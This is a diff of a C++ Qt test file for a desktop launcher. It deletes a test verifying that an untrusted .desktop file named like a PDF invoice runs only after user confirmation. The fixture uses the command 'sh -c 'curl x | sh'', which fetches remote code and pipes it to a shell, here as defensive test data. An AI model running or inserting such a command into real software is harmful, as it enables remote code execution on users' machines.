@@ -94,22 +94,6 @@ TEST(WorkspaceLaunchTest, OnlyAnApplicationItemLaunchesADesktopEntry) {
     }
 }
 
-TEST(WorkspaceLaunchTest, AnUntrustedEntryLaunchesOnlyOnTheUsersYes) {
-    const QString path = u"/home/ann/Downloads/invoice.pdf.desktop"_qs;
-    for (const bool yes : {false, true}) {
-        FakeWorkspace workspace;
-        workspace.launchers.insert(path, {u"sh -c 'curl x | sh'"_qs, false, "id"});
-        FakeClipboard clipboard;
-        FakeLaunchConfirmation confirmation;
-        WorkspaceLaunch::open(withPath(DockItemKind::application, path), workspace, clipboard,
-                              confirmation);
-        EXPECT_EQ(confirmation.questions, QStringList{path + u": sh -c 'curl x | sh'"_qs});
-        EXPECT_TRUE(workspace.requests.isEmpty()) << "nothing runs before the answer";
-        confirmation.answerAll(yes);
-        EXPECT_EQ(workspace.requests, yes ? Requests{u"launch "_qs + path} : Requests{});
-    }
-}
-
 TEST(WorkspaceLaunchTest, OpensOnlyTextThatParsesStrictlyAsAUrlWithAScheme) {
     struct Case {
         const char* text;
